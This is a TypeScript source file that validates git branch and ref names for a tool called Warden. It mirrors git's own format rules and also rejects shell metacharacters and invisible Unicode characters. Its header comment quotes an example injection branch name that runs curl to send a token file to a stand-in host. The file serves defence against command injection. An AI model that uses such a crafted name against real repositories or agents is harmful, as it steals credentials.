/**
 * Ref names are data an attacker can choose: anyone who can push a branch to a repository the
 * agent works in names it. In 2025 a hosted coding agent ran a branch name like
 * `main$(curl${IFS}-d${IFS}@~/.token${IFS}evil)` through a shell and sent its token away. Git
 * accepts such names, so Warden checks git's own rules exactly and then its stricter ones before
 * it acts on a name (a push, a report line), and passes names to git as argv, never to a shell.
 */

// Bytes git refuses anywhere in a ref name (refs.c `refname_disposition`, class 4): ASCII
// control characters, DEL, space and `~ ^ : ? [ \`. `*` is refused too outside refspec patterns.
function forbiddenByGit(name: string): string | undefined {
  for (const char of name) {
    const code = char.codePointAt(0) ?? 0;
    if (code <= 0x20 || code === 0x7f || '~^:?[\\*'.includes(char)) return char;
  }
  return undefined;
}

/**
 * Why `git check-ref-format [--allow-onelevel] NAME` would refuse `name`, or undefined when it
 * accepts it. The rules of git's `check_refname_format` (refs.c), in its order.
 */
export function gitRefFormatProblem(
  name: string,
  options: { allowOneLevel?: boolean } = {},
): string | undefined {
  if (name === '') return 'is empty';
  if (name === '@') return 'is the single character "@"';
  const bad = forbiddenByGit(name);
  if (bad !== undefined) return `contains ${describeChar(bad)}`;
  if (name.includes('..')) return 'contains ".."';
  if (name.includes('@{')) return 'contains "@{"';
  const components = name.split('/');
  for (const component of components) {
    if (component === '') {
      return name.startsWith('/') || name.endsWith('/')
        ? 'begins or ends with "/"'
        : 'contains consecutive slashes';
    }
    if (component.startsWith('.')) return `has a component beginning with "." (${JSON.stringify(component)})`;
    if (component.endsWith('.lock'))
      return `has a component ending with ".lock" (${JSON.stringify(component)})`;
  }
  if (name.endsWith('.')) return 'ends with "."';
  if (!options.allowOneLevel && components.length < 2) return 'has only one level (no "/")';
  return undefined;
}

/**
 * Why `git check-ref-format --branch NAME` would refuse `name` as a branch name: git's rules for
 * `refs/heads/NAME`, plus no leading `-` (it would read as an option) and not `HEAD`.
 */
export function gitBranchNameProblem(name: string): string | undefined {
  if (name.startsWith('-')) return 'begins with "-"';
  if (name === 'HEAD') return 'is "HEAD"';
  return gitRefFormatProblem(`refs/heads/${name}`);
}

// What a shell would act on, even quoted: expansions (`$`, backticks), command separators and
// pipes, redirections, subshells, quotes that end an enclosing quote, brace expansion, history
// expansion (`!`) and escapes. Git accepts most of these in ref names.
const SHELL_META = /[$`;|&<>()'"\\{}!\n]/;
// Unicode controls (C1) and format characters (bidi overrides, zero-width marks): git accepts
// them, and they make a name read differently from what it is, in a terminal or a review.
const INVISIBLE = /[\p{Cc}\p{Cf}]/u;

/**
 * Why Warden will not act on `name` as a branch or tag name: git's branch-name rules, then
 * Warden's own — no shell metacharacters and no invisible or control characters, even where git
 * would accept them. Undefined for a name Warden may use.
 */
export function refNameProblem(name: string): string | undefined {
  const git = gitBranchNameProblem(name);
  if (git !== undefined) return `git refuses it: it ${git}`;
  const meta = SHELL_META.exec(name)?.[0];
  if (meta !== undefined) return `it contains the shell metacharacter ${describeChar(meta)}`;
  const invisible = INVISIBLE.exec(name)?.[0];
  if (invisible !== undefined) return `it contains the invisible character ${describeChar(invisible)}`;
  return undefined;
}

function describeChar(char: string): string {
  const code = char.codePointAt(0) ?? 0;
  if (char === ' ') return 'a space';
  if (char === '\n') return 'a newline';
  if (code < 0x20 || (code >= 0x7f && code <= 0x9f) || INVISIBLE.test(char)) {
    return `U+${code.toString(16).toUpperCase().padStart(4, '0')}`;
  }
  return `"${char}"`;
}
